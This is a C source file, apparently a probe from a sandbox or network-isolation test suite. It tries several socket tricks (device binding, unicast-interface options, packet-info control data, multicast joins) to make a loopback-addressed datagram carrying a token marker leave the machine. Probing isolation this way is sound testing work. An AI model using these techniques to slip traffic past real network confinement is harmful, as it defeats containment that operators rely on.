/*
 * A datagram to a loopback address that leaves the machine all the same, because the socket or the message insists on a
 * network device.
 * join, join-group, join4: a multicast group, of which the kernel tells the network.
 * usage: device METHOD ADDRESS PORT DEVICE
 */
#include "attack.h"

#ifndef SO_BINDTOIFINDEX
#define SO_BINDTOIFINDEX 62
#endif

/* The kernel tells the network of the group, and the group's address is the message. */
static void join(const char *method, int fd, int index) {
    struct group_req group = {.gr_interface = (unsigned)index};
    struct sockaddr_in6 *six = (struct sockaddr_in6 *)&group.gr_group;
    struct ipv6_mreq old = {.ipv6mr_interface = (unsigned)index};
    struct ip_mreqn four = {.imr_ifindex = index};
    six->sin6_family = AF_INET6;
    memcpy(&six->sin6_addr, "\xff\x1e" TOKEN, 16);
    old.ipv6mr_multiaddr = six->sin6_addr;
    inet_pton(AF_INET, "239.83.69.67", &four.imr_multiaddr);
    int rc = strcmp(method, "join-group") == 0  ? setsockopt(fd, IPPROTO_IPV6, MCAST_JOIN_GROUP, &group, sizeof group)
             : strcmp(method, "join") == 0      ? setsockopt(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &old, sizeof old)
                                                : setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &four, sizeof four);
    if (rc != 0)
        stopped_at(method);
    sleep(2); /* the kernel takes its time, also when a group is left, of which it tells as well: not during the next attack */
    close(fd);
    sleep(2);
    reached("%s", method);
}

int main(int argc, char **argv) {
    if (argc != 5)
        cannot("usage: device METHOD ADDRESS PORT DEVICE");
    const char *method = argv[1];
    struct target t = target_of(argv[2], argv[3]);
    int fd = socket(t.family, SOCK_DGRAM, 0), index = (int)if_nametoindex(argv[4]), rc = 0, level = IPPROTO_IP;
    uint32_t wire_index = htonl((uint32_t)index);
    if (fd < 0 || index == 0)
        cannot("socket or %s: %s", argv[4], strerror(errno));
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(struct in6_pktinfo))];
    } control = {{0}};
    struct iovec data = {TOKEN, strlen(TOKEN)};
    struct msghdr m = {.msg_name = &t.address, .msg_namelen = t.length, .msg_iov = &data, .msg_iovlen = 1};
    if (strncmp(method, "join", 4) == 0)
        join(method, fd, index);
    if (strcmp(method, "bind") == 0) {
        rc = setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, argv[4], (socklen_t)strlen(argv[4]));
    } else if (strcmp(method, "bind-index") == 0) {
        rc = setsockopt(fd, SOL_SOCKET, SO_BINDTOIFINDEX, &index, sizeof index);
    } else if (strcmp(method, "unicast") == 0) {
        rc = t.family == AF_INET ? setsockopt(fd, level, 50 /* IP_UNICAST_IF */, &wire_index, sizeof wire_index)
                                 : setsockopt(fd, IPPROTO_IPV6, 76 /* IPV6_UNICAST_IF */, &wire_index, sizeof wire_index);
    } else if (strcmp(method, "sticky") == 0) {
        struct in6_pktinfo info = {.ipi6_ifindex = (unsigned)index};
        rc = setsockopt(fd, IPPROTO_IPV6, IPV6_PKTINFO, &info, sizeof info);
    } else if (strcmp(method, "control") == 0 || strcmp(method, "control-connected") == 0) {
        m.msg_control = &control;
        if (t.family == AF_INET) {
            struct in_pktinfo info = {.ipi_ifindex = index};
            control.header = (struct cmsghdr){.cmsg_level = level, .cmsg_type = IP_PKTINFO, .cmsg_len = CMSG_LEN(sizeof info)};
            memcpy(CMSG_DATA(&control.header), &info, sizeof info);
            m.msg_controllen = CMSG_SPACE(sizeof info);
        } else {
            struct in6_pktinfo info = {.ipi6_ifindex = (unsigned)index};
            control.header = (struct cmsghdr){.cmsg_level = IPPROTO_IPV6, .cmsg_type = IPV6_PKTINFO, .cmsg_len = CMSG_LEN(sizeof info)};
            memcpy(CMSG_DATA(&control.header), &info, sizeof info);
            m.msg_controllen = CMSG_SPACE(sizeof info);
        }
        if (strcmp(method, "control-connected") == 0) {
            rc = connect(fd, (struct sockaddr *)&t.address, t.length);
            m.msg_name = NULL;
            m.msg_namelen = 0;
        }
    } else {
        cannot("unknown method %s", method);
    }
    if (rc != 0)
        stopped_at(method);
    if (sendmsg(fd, &m, 0) < 0)
        stopped_at("sendmsg");
    usleep(20000); /* the frame is taken off the cable by another thread of the kernel */
    reached("%s", method);
}
